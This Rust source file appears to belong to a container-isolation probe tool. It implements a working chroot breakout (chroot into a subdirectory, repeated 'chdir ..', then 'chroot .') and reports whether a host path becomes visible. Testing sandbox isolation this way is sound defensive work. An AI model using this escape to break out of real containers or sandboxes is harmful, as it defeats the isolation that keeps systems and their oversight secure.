//! `probe breakout PATH`: the classic chroot escape, then a look for PATH.
//!
//! `chroot` changes only where `/` resolves for this process; it does not
//! move the current directory. A root process can chroot into a
//! subdirectory while its cwd stays above it, climb out with `..` (nothing
//! stops `..` at a root you are not under), and `chroot(".")` at the real
//! top. Under `pivot_root` with the old root unmounted there is nothing
//! above the container's root in its mount namespace to climb to.

use serde_json::json;
use std::ffi::CString;
use std::os::fd::AsRawFd;
use std::path::Path;

use crate::out;

/// Tries the escape and reports whether PATH (a host path) became visible.
pub fn run(path: &str) -> u8 {
    let before = Path::new(path).exists();
    let name = format!(".breakout-{}-{}", std::process::id(), nanos());
    let dir = format!("/{name}");
    if let Err(err) = std::fs::create_dir(&dir) {
        return out::fail(&err, json!({ "step": "mkdir" }));
    }
    // After an escape, "/" is the host's: keep a handle on the container's
    // root to remove the directory from there.
    let root = std::fs::File::open("/");
    let result = escape(&dir);
    let after = Path::new(path).exists();
    if let (Ok(root), Ok(name)) = (root, CString::new(name)) {
        // SAFETY: a plain system call on an open directory and a C string.
        unsafe { libc::unlinkat(root.as_raw_fd(), name.as_ptr(), libc::AT_REMOVEDIR) };
    }
    if let Err((step, err)) = result {
        return out::fail(&err, json!({ "step": step }));
    }
    out::finish(
        json!({ "ok": true, "visible_before": before, "visible_after": after, "escaped": after && !before }),
    )
}

/// Nanoseconds of the clock, to make the directory's name unique.
fn nanos() -> u32 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.subsec_nanos())
}

fn escape(dir: &str) -> Result<(), (&'static str, std::io::Error)> {
    let c = |s: &str| CString::new(s).expect("no NUL");
    let sys = |step, rc: i32| {
        if rc == 0 {
            Ok(())
        } else {
            Err((step, std::io::Error::last_os_error()))
        }
    };
    // SAFETY: plain system calls on NUL-terminated strings that outlive them.
    unsafe {
        sys("chroot into a subdirectory", libc::chroot(c(dir).as_ptr()))?;
        for _ in 0..64 {
            sys("chdir ..", libc::chdir(c("..").as_ptr()))?;
        }
        sys("chroot .", libc::chroot(c(".").as_ptr()))?;
    }
    Ok(())
}
